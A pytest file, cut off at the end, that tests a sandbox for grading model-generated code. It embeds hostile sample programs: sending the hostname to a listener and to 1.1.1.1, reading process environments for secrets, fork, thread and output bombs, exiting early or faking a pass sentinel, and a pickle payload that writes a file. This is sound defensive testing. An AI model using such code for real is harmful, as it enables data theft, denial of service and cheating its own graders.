"""The code sandbox against hostile completions: every attack of issue 25, each bounded in time, each outcome checked.

Every program here runs through :func:`lengthlens.data.grading.sandbox.run` (or the graders and ``lengthlens.load``
on top of it) with small limits. Each test asserts what the attack tried to achieve did not happen (the file
is absent, the listener got no connection, the secret is not in the output, the process is gone, ...), not
only that grading returned. Tests that need bubblewrap skip with the reason where it cannot run; CI installs
it (.ci/run).
"""

from __future__ import annotations

import json
import os
import pickle
import base64
import resource
import secrets
import socket
import subprocess
import sys
import textwrap
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import polars as pl
import pytest

import lengthlens as ll
from lengthlens.cli import build_parser
from lengthlens.data.grading import grade
from lengthlens.data.grading import untrusted
from lengthlens.data.grading.code import ProblemsUnavailable, lcb_problem, load_livecodebench_tests
from lengthlens.data.grading.untrusted import plain_unpickle
from lengthlens.data.grading.sandbox import (
    ENV_VAR,
    Limits,
    SandboxUnavailable,
    execution_mode,
    mode_from_args,
    mode_from_env,
    resolve,
    run,
    sandbox_info,
    seccomp_filter,
)

#: Small limits: one CPU second, a three-second wall, 256 MiB, 8 MiB of disk, 1 MiB of output.
SMALL = Limits(cpu_s=1, wall_factor=3, memory_mb=256, disk_mb=8, output_mb=1, threads=8)
#: For programs that wait: the shortest wall limit (the CPU limit's whole second, plus one).
WAITS = Limits(cpu_s=1, wall_factor=1, wall_margin_s=0, memory_mb=256, disk_mb=8, output_mb=1)


@pytest.fixture
def sandbox():
    try:
        return sandbox_info()
    except SandboxUnavailable as exc:
        pytest.skip(f"the code sandbox cannot run here: {exc}")


def host_processes_with(marker: str) -> list[int]:
    """Pids of host processes whose command line holds ``marker`` (the attack's survivors)."""
    found = []
    for d in os.listdir("/proc"):
        if not d.isdigit() or int(d) == os.getpid():
            continue
        try:
            with open(f"/proc/{d}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(d))
        except OSError:
            continue
    return found


def P(src: str) -> str:
    return textwrap.dedent(src).lstrip("\n")


# --- the filesystem -------------------------------------------------------------------------------

@pytest.mark.timeout(10)
def test_writes_outside_the_private_temp_dir_do_not_land(sandbox, tmp_path):
    tag = secrets.token_hex(6)
    targets = [tmp_path / f"escape-{tag}", Path("/tmp") / f"lengthlens-escape-{tag}", Path.cwd() / f"escape-{tag}",
               Path.home() / f"escape-{tag}", Path("/usr") / f"escape-{tag}", Path("/") / f"escape-{tag}",
               Path("/dev/shm") / f"escape-{tag}"]
    r = run(P(f"""
        import os
        for t in {[str(t) for t in targets]!r}:
            try:
                os.makedirs(os.path.dirname(t), exist_ok=True)
                open(t, "w").write("x")
                print("wrote", t, os.path.exists(t))
            except OSError as e:
                print("refused", t, e.errno)
        open("inside.txt", "w").write("ok")
        print("cwd", os.getcwd(), os.listdir("."))
    """), limits=SMALL)
    assert r.ok, r.error
    assert "cwd /tmp" in r.stdout and "'inside.txt'" in r.stdout  # the private tmpfs is writable ...
    assert not [t for t in targets if t.exists()]  # ... and nothing reached the host
    # A write below /tmp lands in the sandbox's own tmpfs, which vanished with it; elsewhere the mounts are read-only.
    assert r.stdout.count("refused") == sum(not str(t).startswith("/tmp/") for t in targets)


@pytest.mark.timeout(10)
def test_only_what_python_needs_is_visible(sandbox):
    r = run(P("""
        import os
        print(sorted(os.listdir("/")))
        for p in ("/work", "/home", "/root/.ssh", "/etc/passwd", "/etc/hostname", "/var", "/sys/kernel"):
            print(p, os.path.exists(p))
    """), limits=SMALL)
    assert r.ok, r.error
    top = eval(r.stdout.splitlines()[0])  # noqa: S307 - our own program's repr of a list of names
    assert "work" not in top and "home" not in top and "var" not in top and "sys" not in top
    assert all(line.endswith("False") for line in r.stdout.splitlines()[1:])


@pytest.mark.timeout(10)
def test_bytes_written_are_capped_in_total(sandbox):
    # Ten 15 MB files under an 8 MiB disk limit: the total stays under the cap, not 10 x a per-file cap.
    r = run(P("""
        import os
        total = 0
        for i in range(10):
            try:
                with open(f"f{i}", "wb") as f:
                    for _ in range(15):
                        f.write(b"x" * (1 << 20))
            except OSError as e:
                pass
            total += os.path.getsize(f"f{i}") if os.path.exists(f"f{i}") else 0
        print(total)
    """), limits=SMALL)
    assert r.ok, r.error
    assert int(r.stdout) <= SMALL.disk_mb << 20


# --- the network ----------------------------------------------------------------------------------

@pytest.mark.timeout(10)
def test_no_network_a_listener_on_the_host_gets_nothing(sandbox):
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.setblocking(False)
    port = srv.getsockname()[1]
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"\0lengthlens-test-{secrets.token_hex(6)}"
    abstract.bind(name)
    abstract.listen(8)
    abstract.setblocking(False)
    try:
        r = run(P(f"""
            import socket
            try:
                data = open("/etc/hostname", "rb").read()
            except OSError:
                data = socket.gethostname().encode()
            for family, addr in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("1.1.1.1", 80)),
                                 (socket.AF_UNIX, {name!r})):
                s = socket.socket(family, socket.SOCK_STREAM)
                s.settimeout(1)
                try:
                    s.connect(addr)
                    s.sendall(data)
                    print("sent", addr)
                except OSError as e:
                    print("no connection", e.errno)
            print(socket.gethostname())
        """), limits=SMALL)
        assert r.ok, r.error
        assert "sent" not in r.stdout and r.stdout.count("no connection") == 3
        for listener in (srv, abstract):
            with pytest.raises(BlockingIOError):
                listener.accept()  # nothing ever connected
        assert r.stdout.splitlines()[-1] == "sandbox"  # not the host's name either
    finally:
        srv.close()
        abstract.close()


# --- the environment and /proc --------------------------------------------------------------------

@pytest.mark.timeout(10)
def test_the_parents_environment_is_out_of_reach(sandbox, monkeypatch):
    secret = "s3cr3t-" + secrets.token_hex(12)
    monkeypatch.setenv("LENGTHLENS_TEST_SECRET", secret)
    r = run(P(f"""
        import os
        print(dict(os.environ))
        for pid in ["self", str(os.getppid()), "1", "{os.getpid()}"]:
            for what in ("environ", "cmdline"):
                try:
                    print(pid, what, open(f"/proc/{{pid}}/{{what}}", "rb").read())
                except OSError as e:
                    print(pid, what, "unreadable", e.errno)
        for d in os.listdir("/proc"):
            if d.isdigit():
                try:
                    print("proc", d, open(f"/proc/{{d}}/environ", "rb").read())
                except OSError:
                    pass
    """), limits=SMALL)
    assert r.ok, r.error
    assert secret not in r.stdout and "LENGTHLENS_TEST_SECRET" not in r.stdout
    # The fresh /proc of the PID namespace holds only bwrap's init (1) and the program (2): not the host's processes.
    assert sorted(int(line.split()[1]) for line in r.stdout.splitlines() if line.startswith("proc ")) == [1, 2]
    assert f"{os.getpid()} environ unreadable" in r.stdout


@pytest.mark.timeout(10)
def test_the_program_is_unprivileged(sandbox):
    marker = "llmark" + secrets.token_hex(6)  # its __name__: on its command line, so the host can find it
    seen = {}

    def watch():
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not seen:
            for pid in host_processes_with(marker):
                try:
                    with open(f"/proc/{pid}/status") as f:
                        st = dict(line.split(":", 1) for line in f.read().splitlines() if ":" in line)
                    seen["uid"] = st["Uid"].split()
                except OSError:
                    pass
            time.sleep(0.01)

    with ThreadPoolExecutor(1) as ex:
        fut = ex.submit(watch)
        r = run(P("""
            import os, time
            st = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines() if ":" in l)
            print(os.getuid(), os.getgid(), st["CapEff"].strip(), st["NoNewPrivs"].strip())
            try:
                os.setuid(0)
                print("setuid worked")
            except OSError as e:
                print("setuid refused")
            time.sleep(0.5)
        """), limits=SMALL, run_name=marker)
        fut.result()
    assert r.ok, r.error
    assert r.stdout.splitlines() == ["65534 65534 0000000000000000 1", "setuid refused"]
    # Seen from the host: uid 65534 where bwrap could drop root's privileges (see SandboxInfo), else the caller's.
    assert seen["uid"] == [str(65534 if sandbox.dropped else os.geteuid())] * 4


# --- processes ------------------------------------------------------------------------------------

@pytest.mark.timeout(10)
def test_killing_the_parent_leaves_lengthlens_running(sandbox):
    me = os.getpid()
    r = run(P(f"""
        import os, signal
        for target in (os.getppid(), {me}, 1, -1):
            try:
                os.kill(target, signal.SIGKILL)
                print("signalled", target)
            except OSError as e:
                print("refused", target, e.errno)
        print("still here")
    """), limits=SMALL)
    # Its parent is the namespace's init, which ignores signals from inside; lengthlens is not in its namespace at
    # all, and kill(-1) reaches no one else.
    assert os.getpid() == me
    assert f"refused {me} 3" in r.stdout  # ESRCH: no such process where the program lives
    assert r.ok and r.stdout.endswith("still here\n")


@pytest.mark.timeout(10)
def test_new_processes_are_refused_threads_are_not(sandbox):
    r = run(P("""
        import os, subprocess, threading
        forks = 0
        for _ in range(50):
            try:
                pid = os.fork()
            except OSError:
                continue
            if pid == 0:
                os._exit(0)
            forks += 1
        try:
            subprocess.run(["/bin/true"])
            spawned = "spawned"
        except OSError as e:
            spawned = "refused"
        out = []
        ts = [threading.Thread(target=out.append, args=(i,)) for i in range(4)]
        [t.start() for t in ts]
        [t.join() for t in ts]
        print(forks, spawned, sorted(out))
    """), limits=SMALL)
    assert r.ok, r.error
    assert r.stdout.strip() == "0 refused [0, 1, 2, 3]"


@pytest.mark.timeout(10)
def test_a_thread_bomb_is_capped_where_the_user_is_not_root_outside(sandbox):
    if not sandbox.threads_capped:
        pytest.skip("lengthlens runs as root with an interpreter only root can reach: threads are bounded by memory only")
    r = run(P("""
        import threading, time
        n = 0
        try:
            for _ in range(200):
                threading.Thread(target=time.sleep, args=(0.5,), daemon=True).start()
                n += 1
        except RuntimeError:
            pass
        print(n)
    """), limits=Limits(cpu_s=1, wall_factor=3, memory_mb=4096, threads=8))  # memory for 200 threads' stacks
    assert r.ok, r.error
    assert int(r.stdout) == 8


@pytest.mark.timeout(10)
def test_double_forked_sleepers_do_not_survive(sandbox):
    # Also the grandchild that would hold the output pipe open: grading returns when the program ends.
    marker = "llmark" + secrets.token_hex(6)
    t0 = time.monotonic()
    r = run(P(f"""
        import os, time
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["{marker}", "60"])
                os._exit(0)
            print("forked")
        except OSError as e:
            print("fork refused", e.errno)
    """), limits=SMALL)
    assert time.monotonic() - t0 < 1.5
    assert r.ok, r.error
    assert r.stdout.strip() == "fork refused 11"
    assert host_processes_with(marker) == []


@pytest.mark.timeout(10)
def test_the_program_itself_sleeping_forever_ends_at_the_wall_limit_and_is_gone(sandbox):
    marker = "llmark" + secrets.token_hex(6)
    t0 = time.monotonic()
    # The program replaces itself by `sleep`: no CPU used, only the wall limit (2 s here) can end it.
    r = run(f"import os\nos.execv('/bin/sleep', ['{marker}', '600'])\n", limits=WAITS)
    took = time.monotonic() - t0
    assert (r.ok, r.timed_out, r.stopped_by) == (False, True, "wall")
    assert WAITS.wall_s <= took < WAITS.wall_s + 1.5
    assert host_processes_with(marker) == []  # gone when grading returned, not later


@pytest.mark.timeout(10)
def test_sleeping_forever_returns_at_the_wall_limit(sandbox):
    t0 = time.monotonic()
    r = run("import threading\nthreading.Event().wait()\n", limits=WAITS)
    took = time.monotonic() - t0
    assert (r.ok, r.timed_out, r.stopped_by) == (False, True, "wall")
    assert r.error == "timed out after 2s (wall limit)"
    assert WAITS.wall_s <= took < WAITS.wall_s + 1.5


@pytest.mark.timeout(20)
def test_cpu_time_is_what_the_limit_counts(sandbox):
    # One CPU second under a ten-second wall: RLIMIT_CPU ends it, however slowly the busy machine gives it that second.
    limits = Limits(cpu_s=1, wall_factor=10)
    t0 = time.monotonic()
    r = run("while True:\n    pass\n", limits=limits)
    assert (r.ok, r.timed_out, r.stopped_by) == (False, True, "cpu")
    assert time.monotonic() - t0 < limits.wall_s


# --- memory ---------------------------------------------------------------------------------------

@pytest.mark.timeout(10)
def test_memory_is_capped_for_the_whole_program(sandbox):
    # Two 800 MB "children" under a 1 GiB limit: processes are refused, and two threads share one address space.
    r = run(P("""
        import os, threading
        try:
            os.fork()
            print("forked")
        except OSError:
            print("no child")
        import mmap
        got = []
        def grab():
            try:
                got.append(mmap.mmap(-1, 800 << 20))  # address space, not touched: the limit, not the machine, decides
            except OSError:
                got.append(None)
        ts = [threading.Thread(target=grab) for _ in range(2)]
        [t.start() for t in ts]
        [t.join() for t in ts]
        print(sum(g is not None for g in got))
    """), limits=Limits(cpu_s=2, wall_factor=3, memory_mb=1024))
    assert r.ok, r.error
    assert r.stdout.split() == ["no", "child", "1"]


# --- output ---------------------------------------------------------------------------------------

@pytest.mark.timeout(15)
def test_a_600_mb_stdout_flood_is_cut_at_the_cap(sandbox):
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
    t0 = time.monotonic()
    r = run(P("""
        import sys
        chunk = "x" * (1 << 20)
        for _ in range(600):
            sys.stdout.write(chunk)
    """), limits=Limits(cpu_s=5, wall_factor=3, output_mb=1))
    took = time.monotonic() - t0
    assert (r.ok, r.stopped_by, r.error) == (False, "output", "output limit (1 MiB) exceeded")
    assert len(r.stdout) <= 1 << 20
    assert took < 3
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before < 64 << 10  # < 64 MiB more at peak


# --- the verdict: the sentinel -------------------------------------------------------------------

PROBLEM = {
    "task_id": "HumanEval/0",
    "prompt": "def total(xs):\n    \"\"\"Sum of xs.\"\"\"\n",
    "test": "def check(candidate):\n    assert candidate([1, 2]) == 3\n    assert candidate([]) == 0\n",
    "entry_point": "total",
}
WRONG = "def total(xs):\n    return 0\n"


def H(answer: str) -> str:
    return f"<|channel|>analysis<|message|>x<|end|><|start|>assistant<|channel|>final<|message|>```python\n{answer}```"


@pytest.mark.timeout(20)
@pytest.mark.parametrize("escape", [
    "exit()", "quit()", "import sys\nsys.exit(0)", "raise SystemExit", "import os\nos._exit(0)",
    # A fake sentinel, and a hunt for the token's pipe (closed before any program code runs).
    "print('\\n' + '0' * 32)\nimport os\nos._exit(0)",
    "import os\nfor fd in os.listdir('/proc/self/fd'):\n    try:\n        print(os.read(int(fd), 64).decode())\n"
    "    except OSError:\n        pass\nos._exit(0)",
])
def test_exiting_before_the_check_is_not_a_pass(sandbox, escape):
    g = grade("humaneval", H(WRONG + escape + "\n"), None, "HumanEval/0", problems={"HumanEval/0": PROBLEM},
              execute_code=True, timeout_s=1)
    assert g.correct is False
    assert g.detail.endswith("no sentinel)") or "SystemExit" in g.detail or "exit status" in g.detail


@pytest.mark.timeout(10)
def test_a_correct_solution_passes_and_a_wrong_one_fails(sandbox):
    ok = grade("humaneval", H("def total(xs):\n    return sum(xs)\n"), None, "HumanEval/0",
               problems={"HumanEval/0": PROBLEM}, execute_code=True, timeout_s=1)
    bad = grade("humaneval", H(WRONG), None, "HumanEval/0", problems={"HumanEval/0": PROBLEM}, execute_code=True,
                timeout_s=1)
    assert (ok.correct, bad.correct, bad.detail) == (True, False, "fenced_block: AssertionError")


@pytest.mark.timeout(10)
def test_a_stdin_script_may_end_with_its_own_exit_zero(sandbox):
    # LiveCodeBench stdin programs often end with sys.exit(main()); that is the program's end, not an escape.
    tests = {"1": {"tests": [{"input": "3\n", "output": "6\n", "testtype": "stdin"}]}}
    for body, correct in (("print(int(input()) * 2)\nimport sys\nsys.exit(0)\n", True),
                          ("print(int(input()) * 2)\nimport sys\nsys.exit(1)\n", False),
                          ("print(7)\nimport sys\nsys.exit(0)\n", False)):
        g = grade("livecodebench", H(body), None, "lcb:test:1", problems=tests, execute_code=True, timeout_s=1)
        assert g.correct is correct, (body, g.detail)


@pytest.mark.timeout(10)
def test_the_deep_recursion_thread_idiom_passes(sandbox):
    # A common competitive-programming idiom: the work runs in a thread with a large stack, started as the module
    # ends; the run is over (and the sentinel printed) only when that thread is.
    body = ("import sys, threading\nsys.setrecursionlimit(100000)\nthreading.stack_size(1 << 26)\n"
            "def f(n):\n    return 0 if n == 0 else 1 + f(n - 1)\n"
            "def main():\n    print(f(int(input())))\nthreading.Thread(target=main).start()\n")
    tests = {"1": {"tests": [{"input": "20000\n", "output": "20000\n", "testtype": "stdin"}]}}
    g = grade("livecodebench", H(body), None, "lcb:test:1", problems=tests, execute_code=True, timeout_s=2)
    assert g.correct is True, g.detail


@pytest.mark.timeout(60)
def test_verdicts_do_not_depend_on_load(sandbox):
    """Eight correct programs of ~0.4 CPU seconds each, graded at once beside two busy processes on this
    machine's cores, under a 2-second CPU limit: all pass (a wall-clock limit of 2 s would fail them)."""
    burn = "def total(xs):\n    n = 0\n    for i in range(4_000_000):\n        n += i\n    return sum(xs)\n"
    hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(2)]
    try:
        with ThreadPoolExecutor(8) as ex:
            grades = list(ex.map(lambda _: grade("humaneval", H(burn), None, "HumanEval/0",
                                                 problems={"HumanEval/0": PROBLEM}, execute_code=True,
                                                 timeout_s=2), range(8)))
    finally:
        for h in hogs:
            h.kill()
            h.wait()
    assert [g.correct for g in grades] == [True] * 8, [g.detail for g in grades]


# --- without isolation (--execute-code-unsafe where the sandbox cannot run) ------------------------

@pytest.mark.timeout(10)
def test_unsafe_mode_still_caps_time_output_and_the_verdict():
    t0 = time.monotonic()
    assert run("import time\ntime.sleep(100)\n", limits=WAITS, isolation="unsafe").stopped_by == "wall"
    assert time.monotonic() - t0 < WAITS.wall_s + 1.5
    assert run("import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n", limits=SMALL,
               isolation="unsafe").stopped_by == "output"
    assert run("import os\nos._exit(0)\n", limits=SMALL, isolation="unsafe").error.endswith("(no sentinel)")
    assert run("print(input())", stdin="hi\n", limits=SMALL, isolation="unsafe").stdout == "hi\n"


@pytest.mark.timeout(10)
def test_unsafe_mode_a_grandchild_holding_the_pipe_does_not_extend_the_wall_time():
    marker = "llmark" + secrets.token_hex(6)
    t0 = time.monotonic()
    try:
        r = run(P(f"""
            import os
            try:
                if os.fork() == 0:
                    os.setsid()  # out of the process group: the one thing unsafe mode cannot kill
                    os.execv("/bin/sleep", ["{marker}", "30"])
            except OSError:
                pass
            print("parent done")
        """), limits=SMALL, isolation="unsafe")
        assert time.monotonic() - t0 < 2  # the program's end ends the reading, whoever holds the pipe
        assert r.ok and r.stdout == "parent done\n"
    finally:
        for pid in host_processes_with(marker):
            os.kill(pid, 9)


# --- the choice ----------------------------------------------------------------------------------

def test_execution_modes_and_the_environment_variable():
    assert [execution_mode(v) for v in (False, None, "0", "off", True, "1", "yes", "unsafe")] == \
        ["off", "off", "off", "off", "sandbox", "sandbox", "sandbox", "unsafe"]
    with pytest.raises(ValueError, match="execute_code must be False, True or 'unsafe'"):
        execution_mode("maybe")
    assert mode_from_env({}) == "off" and mode_from_env({ENV_VAR: "1"}) == "sandbox"
    with pytest.raises(ValueError, match=f"{ENV_VAR}='x' is not understood"):
        mode_from_env({ENV_VAR: "x"})
    assert resolve(False) is None


def test_the_command_line_flags(monkeypatch):
    parser = build_parser()
    monkeypatch.delenv(ENV_VAR, raising=False)
    for argv, want in ((["report", "r", "-o", "o"], "off"), (["report", "r", "-o", "o", "--execute-code"], "sandbox"),
                       (["snapshot", "r", "-o", "s.json", "--execute-code-unsafe"], "unsafe"),
                       (["check", "r", "--against", "s.json", "--execute-code", "--no-graders"], "sandbox")):
        assert execution_mode(mode_from_args(parser.parse_args(argv))) == want
    monkeypatch.setenv(ENV_VAR, "1")
    assert mode_from_args(parser.parse_args(["check", "r", "--against", "s.json"])) == "sandbox"
    assert parser.parse_args(["snapshot", "r", "-o", "s.json", "--no-graders"]).no_graders is True


def test_the_seccomp_filter_is_well_formed():
    for machine in ("x86_64", "aarch64"):
        prog = seccomp_filter(machine)
        assert len(prog) % 8 == 0 and 8 < len(prog) // 8 < 64  # struct sock_filter is 8 bytes; BPF_MAXINSNS 4096
    with pytest.raises(SandboxUnavailable, match="no process-count filter for the mips architecture"):
        seccomp_filter("mips")


# --- lengthlens.load: off by default, on when asked, refused where it cannot be isolated ------------

def _flat(tmp_path: Path, marker: Path) -> tuple[Path, Path]:
    """A flat JSONL of HumanEval runs (strict + one arm: right, wrong, and one that writes ``marker`` if run)
    and GSM8K runs, and a problems file."""
    probs = tmp_path / "problems.jsonl"
    probs.write_text(json.dumps(PROBLEM) + "\n")
    answers = {"case_000": "def total(xs):\n    return sum(xs)\n", "case_001": WRONG,
               "case_002": f"open({str(marker)!r}, 'w').write('x')\ndef total(xs):\n    return sum(xs)\n"}
    rows = []
    for method, params in (("strict", "strict"), ("r_fuzzy", "alpha0.1")):
        for item, ans in answers.items():
            rows.append(dict(target="t", draft="d", dataset="humaneval", method=method, params=params, item_id=item,
                             seed=0, status="ok", output_tokens=10, finish_reason="stop", text=H(ans),
                             prompt_source_id="openai/openai_humaneval:test:HumanEval/0"))
            rows.append(dict(target="t", draft="d", dataset="gsm8k", method=method, params=params, item_id=item,
                             seed=0, status="ok", output_tokens=10, finish_reason="stop", reference_answer="4",
                             text="<|channel|>final<|message|>#### 4"))
    runs = tmp_path / "runs.jsonl"
    runs.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return runs, probs


def _verdicts(rs) -> dict:
    t = rs.table.filter(pl.col("method") == "strict").sort("dataset", "item_id")
    return {(d, i): c for d, i, c in t.select("dataset", "item_id", "correct").iter_rows()}


@pytest.mark.timeout(20)
def test_load_runs_no_code_by_default(tmp_path):
    marker = tmp_path / "ran"
    runs, probs = _flat(tmp_path, marker)
    rs = ll.load(runs, problems=probs)
    v = _verdicts(rs)
    assert [v[("humaneval", c)] for c in ("case_000", "case_001", "case_002")] == [None, None, None]
    assert [v[("gsm8k", c)] for c in ("case_000", "case_001", "case_002")] == [True, True, True]  # unaffected
    lines = [w for w in rs.warnings if "code execution is off" in w]
    assert lines == ["6 runs (humaneval 6) were left ungraded because code execution is off: pass --execute-code "
                     "(LENGTHLENS_EXECUTE_CODE=1, or lengthlens.load(execute_code=True)) to run their code in a sandbox "
                     "(docs/execution.md)"]
    assert not marker.exists()
    # Several sources: still one line, with the counts summed.
    other = tmp_path / "other.jsonl"
    other.write_text(runs.read_text().replace('"target": "t"', '"target": "t2"'))
    lines = [w for w in ll.load(runs, other, problems=probs).warnings if "code execution is off" in w]
    assert len(lines) == 1 and lines[0].startswith("12 runs (humaneval 12) were left ungraded")


@pytest.mark.timeout(20)
def test_load_with_execute_code_grades_in_the_sandbox(sandbox, tmp_path):
    marker = tmp_path / "ran"
    runs, probs = _flat(tmp_path, marker)
    rs = ll.load(runs, problems=probs, execute_code=True)
    v = _verdicts(rs)
    # case_002 is a correct solution whose stray write to the host fails inside the sandbox: an OSError, so wrong.
    assert [v[("humaneval", c)] for c in ("case_000", "case_001", "case_002")] == [True, False, False]
    assert [v[("gsm8k", c)] for c in ("case_000", "case_001", "case_002")] == [True, True, True]
    assert not [w for w in rs.warnings if "code execution" in w]
    assert not marker.exists()


def _load_without_bwrap(tmp_path: Path, execute_code: str, runs: Path, probs: Path) -> subprocess.CompletedProcess:
    """lengthlens.load in a fresh process whose PATH holds no bwrap (a machine without bubblewrap)."""
    code = (f"import lengthlens as ll\n"
            f"rs = ll.load({str(runs)!r}, problems={str(probs)!r}, execute_code={execute_code!r})\n"
            f"print([w for w in rs.warnings if 'code' in w])\n"
            f"t = rs.table.filter(rs.table['dataset'] == 'humaneval')\n"
            f"print(sorted(zip(t['method'], t['item_id'], t['correct'])))\n")
    env = {**os.environ, "PATH": str(tmp_path)}  # python is run by its absolute path
    return subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)


@pytest.mark.timeout(60)
def test_without_bubblewrap_execution_is_refused_in_one_line(tmp_path):
    marker = tmp_path / "ran"
    runs, probs = _flat(tmp_path, marker)
    p = _load_without_bwrap(tmp_path, True, runs, probs)
    assert p.returncode == 1
    last = p.stderr.strip().splitlines()[-1]
    assert last.endswith("LoadError: cannot execute generated code safely: bubblewrap (bwrap) is not installed; install "
                         "the package bubblewrap (Debian/Ubuntu: apt-get install bubblewrap); or pass "
                         "--execute-code-unsafe (execute_code='unsafe') to run it with resource limits only")
    assert not marker.exists()


@pytest.mark.timeout(60)
def test_without_bubblewrap_unsafe_execution_runs_and_says_so(tmp_path):
    marker = tmp_path / "ran"
    runs, probs = _flat(tmp_path, marker)
    p = _load_without_bwrap(tmp_path, "unsafe", runs, probs)
    assert p.returncode == 0, p.stderr
    warnings, verdicts = p.stdout.strip().splitlines()
    assert "generated code was executed WITHOUT isolation (bubblewrap (bwrap) is not installed" in warnings
    # Unisolated, the stray write lands: exactly what the sandbox prevents.
    assert eval(verdicts) == [("r_fuzzy", "case_000", True), ("r_fuzzy", "case_001", False),  # noqa: S307
                              ("r_fuzzy", "case_002", True), ("strict", "case_000", True),
                              ("strict", "case_001", False), ("strict", "case_002", True)]
    assert marker.exists()


# --- the LiveCodeBench problems file: no untrusted pickle is ever loaded ------------------------------

class _Payload:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def _lcb_blob(obj) -> str:
    return base64.b64encode(zlib.compress(pickle.dumps(obj))).decode()


def test_livecodebench_private_tests_are_decoded_as_plain_data(tmp_path):
    cases = [{"input": "1\n", "output": "2\n", "testtype": "stdin"}]
    for proto in (2, 4, 5):
        rec = {"question_id": "7", "public_test_cases": "[]",
               "private_test_cases": base64.b64encode(zlib.compress(pickle.dumps(json.dumps(cases), protocol=proto))).decode()}
        assert lcb_problem(rec).tests[0].output == "2\n"
    assert plain_unpickle(pickle.dumps(({"a": (1, 2.5, None, True, b"x")}, ["s"]))) == ({"a": (1, 2.5, None, True, b"x")}, ["s"])


def test_a_pickle_with_a_reduce_payload_is_refused_and_never_run(tmp_path):
    marker = tmp_path / "pwned"
    good = {"question_id": "1", "tests": [{"input": "", "output": "1", "testtype": "stdin"}]}
    bad = {"question_id": "2", "public_test_cases": "[]", "private_test_cases": _lcb_blob(_Payload(str(marker)))}
    f = tmp_path / "lcb.jsonl"
    f.write_text(json.dumps(good) + "\n" + json.dumps(bad) + "\n")
    with pytest.raises(ProblemsUnavailable) as exc:
        load_livecodebench_tests(f)
    assert str(exc.value) == (f"{f}:2: private_test_cases is a pickle that was refused, unexecuted: it refers to the "
                              f"global io.open (only plain data is accepted: str, bytes, numbers, None, lists, "
                              f"tuples, dicts)")
    assert not marker.exists()
    # Through the grader too (execution on, so the tests are read): ungraded, with the reason, nothing run.
    g = grade("livecodebench", H("print(1)\n"), None, "lcb:test:1", problems=f, execute_code="unsafe")
    assert g.correct is None and "refused, unexecuted" in g.detail and not marker.exists()


def test_other_hostile_problem_blobs_are_refused(tmp_path, monkeypatch):
    import collections

    rec = {"question_id": "3", "public_test_cases": "[]"}
    for obj, why in ((collections.OrderedDict(a=1), "refers to the global collections.OrderedDict"),
                     ({1, 2}, "holds a set, not plain data")):
        with pytest.raises(ProblemsUnavailable, match=why):
            lcb_problem({**rec, "private_test_cases": _lcb_blob(obj)}, "f.jsonl:9")
    with pytest.raises(ProblemsUnavailable, match="f.jsonl:9: private_test_cases is neither JSON nor base64"):
        lcb_problem({**rec, "private_test_cases": "not base64 !"}, "f.jsonl:9")
    monkeypatch.setattr(untrusted, "MAX_TESTS_BYTES", 1000)
    with pytest.raises(ProblemsUnavailable, match="decompresses to more than"):
        lcb_problem({**rec, "private_test_cases": _lcb_blob("x" * 5000)}, "f.jsonl:9")


def _self_referential_list() -> bytes:
    a: list = []
    a.append(a)
    return pickle.dumps(a, protocol=2)  # 9 bytes: ]q\x00h\x00a.


def _shared_levels(levels: int):
    x: object = "leaf"
    for _ in range(levels):
        x = [x, x]  # each level holds the one below twice: 2**levels values from a few hundred bytes
    return x


def _nested(depth: int):
    x: list = []
    for _ in range(depth):
        x = [x]
    return x


@pytest.mark.timeout(10)
@pytest.mark.parametrize("blob, why", [
    (_self_referential_list(), "holds itself"),
    (pickle.dumps({"k": _shared_levels(40)}, protocol=4), "more than 5,000,000 values"),
    (pickle.dumps(_shared_levels(23), protocol=4), "more than 5,000,000 values"),
    (pickle.dumps(_nested(100)), "nested more than 64 levels"),
    (pickle.dumps([10 ** 2000]), "integer of"),
], ids=["self_referential_9_bytes", "shared_40_levels", "shared_23_levels", "nested_100", "huge_int"])
def test_a_pickle_that_describes_an_endless_or_huge_value_is_refused_at_once(tmp_path, blob, why):
    rec = {"question_id": "5", "public_test_cases": "[]",
           "private_test_cases": base64.b64encode(zlib.compress(blob)).decode()}
    f = tmp_path / "lcb.jsonl"
    f.write_text(json.dumps(rec) + "\n")
    with pytest.raises(ProblemsUnavailable, match=why):
        load_livecodebench_tests(f)
    g = grade("livecodebench", H("print(1)\n"), None, "lcb:test:5", problems=f, execute_code="unsafe")
    assert g.correct is None and "refused, unexecuted" in g.detail


@pytest.mark.timeout(10)
@pytest.mark.parametrize("kind", ["fifo", "dev_zero", "folder", "gzip_bomb"])
def test_a_problems_file_that_is_not_a_small_regular_file_is_a_reason_not_a_hang(tmp_path, kind, monkeypatch):
    import gzip

    f = tmp_path / "lcb.jsonl.gz"
    if kind == "fifo":
        os.mkfifo(f)
    elif kind == "dev_zero":
        f.symlink_to("/dev/zero")
    elif kind == "folder":
        f.mkdir()
    else:
        monkeypatch.setenv("LENGTHLENS_MAX_FILE_BYTES", str(1 << 20))
        f.write_bytes(gzip.compress(b"0" * (64 << 20)))
    g = grade("livecodebench", H("print(1)\n"), None, "lcb:test:5", problems=f, execute_code="unsafe")
    assert g.correct is None and str(f) in g.detail
    assert any(w in g.detail for w in ("FIFO", "character device", "folder", "line longer than", "decompresses"))


@pytest.mark.timeout(30)
def test_snapshot_and_check_grade_code_only_with_the_flag(sandbox, tmp_path, monkeypatch, capsys):
    from lengthlens.cli import main

    monkeypatch.delenv(ENV_VAR, raising=False)
    runs, probs = _flat(tmp_path, tmp_path / "ran")
    snap = tmp_path / "s.json"

    def humaneval_graded(path: Path) -> int:
